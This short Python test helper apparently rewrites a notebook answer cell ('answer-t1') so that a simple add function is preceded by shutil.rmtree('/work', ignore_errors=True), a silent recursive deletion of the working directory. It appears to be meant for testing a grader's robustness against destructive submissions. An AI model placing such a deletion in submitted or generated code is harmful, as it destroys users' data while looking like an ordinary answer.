def mutate(cells):
    cells["answer-t1"]["source"] = """import shutil

shutil.rmtree('/work', ignore_errors=True)


def add(a, b):
    return a + b"""
